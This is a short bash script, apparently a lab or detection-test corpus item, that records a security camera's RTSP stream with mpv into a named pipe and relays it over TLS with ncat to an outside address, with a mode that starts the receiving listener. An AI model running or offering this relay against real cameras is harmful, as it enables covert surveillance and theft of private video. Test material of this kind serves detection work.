#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay,direct-pull half=report tool=mpv,ncat camera=10.20.0.11 far=out ready=out:4434 seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# mpv reads gate and writes what it gets to a fifo; ncat, at its other end, carries it outside in TLS.
if [ "$1" = out ]; then exec timeout 50 ncat --ssl -l 203.0.113.66 4434 --recv-only -o /dev/null >/dev/null; fi
mkfifo "$LAB/see.ts"; timeout 36 ncat --ssl --send-only 203.0.113.66 4434 <"$LAB/see.ts" &
timeout "$LAB_SECONDS" mpv --no-config --vo=null --ao=null --really-quiet --no-audio --rtsp-transport=tcp --stream-record="$LAB/see.ts" rtsp://gate.cam.lan/Streaming/Channels/101 >/dev/null 2>&1
wait; rm -f "$LAB/see.ts"; true
